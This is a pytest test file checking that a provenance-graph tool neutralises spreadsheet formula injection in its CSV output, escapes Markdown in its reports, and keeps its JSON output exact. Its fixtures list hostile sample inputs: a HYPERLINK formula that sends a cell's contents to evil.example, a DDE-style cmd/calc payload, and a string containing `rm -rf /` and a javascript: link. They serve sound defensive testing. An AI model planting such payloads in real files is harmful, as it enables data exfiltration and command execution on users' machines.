"""Nothing provgraph writes runs in a spreadsheet or a Markdown viewer: CSV cells that a spreadsheet
would read as formulas get a leading `'`, ids and text in report.md are escaped, JSON stays exact."""
from __future__ import annotations

import csv
import io
import json
import re
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/graphs.py

from graphs import GraphBuilder  # noqa: E402

from provgraph.base.escape import FORMULA_STARTS, csv_cell, markdown_text, spreadsheet_safe  # noqa: E402
from provgraph.cli import cli  # noqa: E402
from provgraph.graph.connection import Graph  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "  =1+1"]
TICKS = "`rm -rf /` *bold* _em_ [link](javascript:alert(1)) ![img](http://x/y.png) <b>x</b> ~~s~~ $x$ | a & b #1"


@pytest.fixture
def hostile(graph: Graph) -> GraphBuilder:
    g = GraphBuilder(graph)
    for index, formula in enumerate(FORMULAS):
        # rivals on one subject: every one is in CONFLICT, so conflicts --format csv shows their values too
        g.claim(f"=cmd{index}", subject="=subject", value=formula, text=formula, scope="@scope", at="2025-01-01")
    g.claim("plain", subject="y", value="-15%", text="ordinary", at="2025-01-01")
    g.claim("no-value-a", subject=None, value=None, at="2025-01-01")
    g.claim("no-value-b", subject=None, value=None, at="2025-01-01")
    g.conflicts("no-value-a", "no-value-b", at="2025-01-01")
    g.claim(TICKS, subject="z", value="1", at="2025-01-01")
    g.claim("z-rival", subject="z", value="2", at="2025-01-01")  # so TICKS is a new CONFLICT, listed in report.md
    return g


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (cell, row)


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args))
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_status_csv_neutralises_formulas_and_json_stays_exact(hostile: GraphBuilder) -> None:
    rows = _cells(_invoke("status", "--format", "csv"))
    _assert_no_formula(rows)
    header = rows[0]
    by_claim = {row[header.index("claim")]: row for row in rows[1:]}
    assert by_claim["'=cmd0"][header.index("value")] == "'" + FORMULAS[0]
    assert by_claim["'=cmd4"][header.index("value")] == "'\t=1+1"
    assert by_claim["plain"][header.index("value")] == "'-15%"
    assert by_claim["'=cmd0"][header.index("scope")] == "'@scope"
    exact = {row["claim"]: row for row in json.loads(_invoke("status", "--format", "json"))}
    assert {exact[f"=cmd{i}"]["value"] for i in range(len(FORMULAS))} == set(FORMULAS)
    assert exact["plain"]["value"] == "-15%" and exact["=cmd0"]["scope"] == "@scope"


def test_conflicts_csv_neutralises_formulas_and_prints_no_python_none(hostile: GraphBuilder) -> None:
    text = _invoke("conflicts", "--format", "csv")
    assert "None" not in text
    rows = _cells(text)
    _assert_no_formula(rows)
    header = rows[0]
    explicit = [row for row in rows[1:] if row[header.index("kind")] == "EXPLICIT_CONFLICT"]
    assert explicit and explicit[0][header.index("values")] == ";"  # two claims, neither has a value
    rival_values = {row[header.index("values")] for row in rows[1:] if row[header.index("kind")] == "RIVAL_CLAIM"}
    assert any(value.startswith("'=HYPERLINK") for value in rival_values)
    data = json.loads(_invoke("conflicts", "--format", "json"))
    assert [None, None] in [c["values"] for c in data if c["kind"] == "EXPLICIT_CONFLICT"]


def test_cypher_and_named_query_csv_neutralise_formulas_but_keep_numbers(hostile: GraphBuilder) -> None:
    rows = _cells(_invoke("cypher", "MATCH (c:Claim) WHERE c.uid STARTS WITH '=' RETURN c.uid AS uid, c.text AS text, "
                                    "-3 AS n, '-3' AS s ORDER BY uid", "--format", "csv"))
    _assert_no_formula([row[:2] + row[3:] for row in rows])
    assert rows[1][2] == "-3" and rows[1][3] == "'-3"  # a number stays a number; the string "-3" is text
    named = _cells(_invoke("query", "claim_history", "--param", "claim==cmd1", "--format", "csv"))
    _assert_no_formula(named)
    assert any("'" + FORMULAS[1] in row for row in named)
    exact = json.loads(_invoke("cypher", "MATCH (c:Claim {uid: '=cmd1'}) RETURN c.text AS text", "--format", "json"))
    assert exact == [{"text": FORMULAS[1]}]


def test_report_claims_csv_neutralises_formulas_and_report_json_stays_exact(hostile: GraphBuilder, tmp_path: Path) -> None:
    out = tmp_path / "report"
    _invoke("report", "--out", str(out))
    with (out / "claims.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    _assert_no_formula(rows)
    header = rows[0]
    assert {row[header.index("value")] for row in rows[1:] if row[0].startswith("'=cmd")} == {"'" + f for f in FORMULAS}
    data = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert "=cmd0" in json.dumps(data) and "'=cmd0" not in json.dumps(data)


def test_report_md_escapes_markdown_in_ids_and_text(hostile: GraphBuilder, tmp_path: Path) -> None:
    out = tmp_path / "report"
    _invoke("report", "--out", str(out), "--format", "md")
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert markdown_text(TICKS) in markdown
    outside_fences = re.sub(r"```mermaid\n.*?\n```", "", markdown, flags=re.DOTALL)
    for raw in ("`rm -rf /`", "*bold*", "_em_", "[link](javascript", "<b>", "~~s~~", "$x$"):
        assert raw not in outside_fences, raw


def test_the_escape_rules() -> None:
    assert [spreadsheet_safe(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert spreadsheet_safe("ADR-0001") == "ADR-0001" and spreadsheet_safe("a=b") == "a=b"
    assert csv_cell(None) == "" and csv_cell(-3) == -3 and csv_cell(1.5) == 1.5 and csv_cell("-3") == "'-3"
    assert markdown_text("a`b`*c*_d_[e]|f~g$h<i>&j") == "a\\`b\\`\\*c\\*\\_d\\_\\[e\\]\\|f\\~g\\$h&lt;i&gt;&amp;j"
    assert markdown_text("ADR-0001 acme/payments#61") == "ADR-0001 acme/payments#61"  # readable ids stay as typed
    assert markdown_text("trailing #") == "trailing \\#" and markdown_text("#1 first") == "\\#1 first"
    assert markdown_text("two\nlines") == "two lines"
